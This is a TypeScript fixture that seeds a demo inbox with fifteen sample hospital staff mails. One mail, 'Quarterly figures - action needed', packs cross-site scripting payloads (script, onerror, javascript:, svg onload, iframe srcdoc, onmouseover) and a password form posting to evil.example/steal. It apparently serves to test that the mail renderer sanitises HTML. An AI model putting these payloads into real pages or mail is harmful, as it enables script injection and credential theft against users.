import { format, subDays } from 'date-fns';
import type { Mail } from '../../../modules/workspace/inbox/mail-types';

/** The subject of the seeded mail whose HTML carries script, event-handler, javascript:, svg and iframe payloads. */
export const HOSTILE_MAIL_SUBJECT = 'Quarterly figures - action needed';

/**
 * The hostile mail's HTML: every payload would set `window.__mailPayloadRan` and call alert() if it
 * ever ran; the readable text around them must still show.
 */
export const HOSTILE_MAIL_HTML = [
  '<p>Dear colleague,</p>',
  '<p>Please review the <b>quarterly figures</b> before Friday.</p>',
  '<script>window.__mailPayloadRan = true; alert("script");</script>',
  '<img src="x" onerror="window.__mailPayloadRan = true; alert(\'img\')">',
  '<p><a href="javascript:window.__mailPayloadRan=true;alert(\'link\')">Open the report</a></p>',
  '<svg onload="window.__mailPayloadRan = true; alert(\'svg\')" width="8" height="8"><circle cx="4" cy="4" r="4"></circle></svg>',
  '<iframe src="javascript:alert(\'iframe\')" srcdoc="<script>parent.__mailPayloadRan = true</script>"></iframe>',
  '<form action="https://evil.example/steal"><label>Password <input name="password" type="password"></label><button>Sign in</button></form>',
  '<p onmouseover="window.__mailPayloadRan = true">Regards, the accounts team</p>',
].join('');

const COLOURS = ['#663399', '#0d6efd', '#198754', '#d63384', '#fd7e14', '#20c997'];

/** A round avatar with the sender's initials, as an inline SVG data URL (no request leaves the page). */
export function initialsAvatar(name: string, index: number): string {
  const initials = name
    .split(/\s+/)
    .filter(Boolean)
    .slice(0, 2)
    .map((word) => word[0]?.toUpperCase() ?? '')
    .join('');
  const svg = `<svg xmlns="http://www.w3.org/2000/svg" width="40" height="40" viewBox="0 0 40 40"><circle cx="20" cy="20" r="20" fill="${COLOURS[index % COLOURS.length] ?? '#663399'}"/><text x="20" y="25" font-family="sans-serif" font-size="15" fill="#fff" text-anchor="middle">${initials}</text></svg>`;
  return `data:image/svg+xml,${encodeURIComponent(svg)}`;
}

type Seed = readonly [
  sender: string,
  daysAgo: number,
  subject: string,
  message: string,
  read: boolean,
  starred: boolean,
];

const SEEDS: readonly Seed[] = [
  [
    'Anita Desai',
    0,
    'Ward rounds moved to 9:30',
    '<p>From Monday the morning ward rounds start at <b>9:30</b>.</p><p>Please update your teams.</p>',
    false,
    true,
  ],
  ['Finance Desk', 0, HOSTILE_MAIL_SUBJECT, HOSTILE_MAIL_HTML, false, false],
  [
    'Rahul Mehta',
    1,
    'Pharmacy stock count on Saturday',
    '<p>The pharmacy will close at 6 pm on Saturday for the stock count.</p><ul><li>Fast movers first</li><li>Expiry check for the cold chain</li></ul>',
    false,
    false,
  ],
  [
    'IT Helpdesk',
    1,
    'Password change reminder',
    '<p>Your password expires in <i>7 days</i>. Change it from your profile page.</p>',
    true,
    false,
  ],
  [
    'Priya Nair',
    2,
    'Nursing roster for next week',
    '<p>The roster is attached to the staff portal. Swaps need approval by Thursday.</p>',
    false,
    false,
  ],
  [
    'Suresh Iyer',
    3,
    'New supplier for surgical gloves',
    '<p>We have a quote from a new supplier: <b>12% lower</b> than the current rate.</p><p>Details on <a href="https://example.com/quotes/gloves">the quote page</a>.</p>',
    true,
    true,
  ],
  [
    'Front Office',
    4,
    'Visitor passes from the 1st',
    '<p>Visitor passes will be printed at the front desk from the 1st of next month.</p>',
    true,
    false,
  ],
  [
    'Kavita Rao',
    5,
    'Fire drill on Wednesday',
    '<p>A fire drill is planned for Wednesday at 11 am. Please follow the floor wardens.</p>',
    true,
    false,
  ],
  [
    'Accounts Team',
    6,
    'Month-end closing checklist',
    '<ol><li>Bank reconciliation</li><li>Supplier statements</li><li>Payroll accruals</li></ol>',
    false,
    false,
  ],
  [
    'Dr. Arjun Singh',
    8,
    'Case review meeting notes',
    '<p>Notes of the case review meeting are below.</p><blockquote>Follow-up in two weeks for all discharged cardiac patients.</blockquote>',
    true,
    false,
  ],
  [
    'Housekeeping',
    9,
    'Deep cleaning of OT complex',
    '<p>The OT complex will be deep cleaned on Sunday from 6 am to 2 pm.</p>',
    true,
    false,
  ],
  [
    'HR Department',
    11,
    'Holiday list for the year',
    '<p>The holiday list has been published. <a href="mailto:hr@example.com">Write to HR</a> with any questions.</p>',
    true,
    false,
  ],
  [
    'Meera Joshi',
    13,
    'Training: infection control',
    '<p>A refresher on infection control for all ward staff on the 15th, 3 pm, seminar hall.</p>',
    true,
    false,
  ],
  [
    'Biomedical Cell',
    16,
    'Ventilator maintenance schedule',
    '<table><tr><th>Unit</th><th>Date</th></tr><tr><td>ICU-1</td><td>Tuesday</td></tr><tr><td>ICU-2</td><td>Thursday</td></tr></table>',
    true,
    false,
  ],
  [
    'Canteen Committee',
    20,
    'New canteen menu',
    '<p>The canteen has a new menu with more millet dishes. Feedback welcome.</p>',
    true,
    false,
  ],
];

/** A company's starting mails (15; 5 unread, 2 starred), dated back from `today` ('yyyy-MM-dd'). */
export function demoMails(today: string): Mail[] {
  const day = new Date(`${today}T00:00:00`);
  return SEEDS.map(([sender, daysAgo, subject, message, read, starred], index) => ({
    id: `M${String(index + 1).padStart(3, '0')}`,
    sender: { name: sender, photo: initialsAvatar(sender, index) },
    date: format(subDays(day, daysAgo), 'yyyy-MM-dd'),
    subject,
    message,
    selected: false,
    read,
    starred,
  }));
}
